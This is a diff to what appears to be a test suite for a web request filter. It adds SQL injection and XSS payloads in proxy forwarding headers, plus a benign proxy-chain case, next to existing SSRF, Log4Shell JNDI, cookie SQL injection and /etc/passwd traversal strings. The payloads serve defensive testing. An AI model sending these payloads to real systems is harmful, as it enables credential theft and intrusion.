@@ -111,6 +111,9 @@ const ATTACKS: Attack[] = [
   { name: 'SSRF to the metadata address in a form field', category: 'ssrf', where: 'body.url', method: 'POST', path: '/fetch', headers: FORM, body: 'url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F' },
   { name: 'Log4Shell ${jndi:ldap} in User-Agent', category: 'template', where: 'header.user-agent', path: '/', headers: { 'user-agent': '${jndi:ldap://203.0.113.9/a}' } },
   { name: 'SQL injection in a cookie', category: 'sqli', where: 'cookie.session', path: '/', headers: { cookie: "theme=dark; session=1' OR '1'='1" } },
+  // Apps log the client's address into SQL as a proxy passed it on; the attacker writes the first entry.
+  { name: 'SQL injection in X-Forwarded-For', category: 'sqli', where: 'header.x-forwarded-for', path: '/', headers: { 'x-forwarded-for': "1.2.3.4', (SELECT password FROM users))-- , 10.0.0.1" } },
+  { name: 'XSS in X-Real-IP (an admin page lists addresses)', category: 'xss', where: 'header.x-real-ip', path: '/', headers: { 'x-real-ip': '<img src=x onerror=alert(1)>' } },
   // Evasions, through the real router.
   { name: 'double-encoded traversal %252e%252e%252f', category: 'traversal', where: 'query.file', path: '/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd' },
   { name: 'overlong UTF-8 dots %c0%ae%c0%ae/', category: 'traversal', where: 'query.file', path: '/download?file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd' },
@@ -130,6 +133,8 @@ const BENIGN: { name: string; method?: string; path: string; headers?: Record<st
   { name: 'a relative link inside its folder', path: '/docs?file=docs/../readme.txt' },
   { name: 'a forum post quoting <b>', method: 'POST', path: '/comment', headers: JSON_TYPE, body: JSON.stringify({ text: 'use <b>bold</b> for emphasis, 1<2' }) },
   { name: 'a price with a dollar sign', path: '/search?q=costs+$5+in+cash' },
+  // Loopback and private addresses in forwarding headers are proxies' own, not SSRF targets.
+  { name: 'forwarding headers of a chain of proxies', path: '/', headers: { 'x-forwarded-for': '203.0.113.195, 127.0.0.1, 10.0.0.1', 'x-real-ip': '::1', forwarded: 'for=192.0.2.60;proto=http;by=127.0.0.1, for="[2001:db8:cafe::17]:4711";host=localhost:3000', 'true-client-ip': '169.254.169.254' } },
 ];
 
 for (const framework of FRAMEWORKS) {
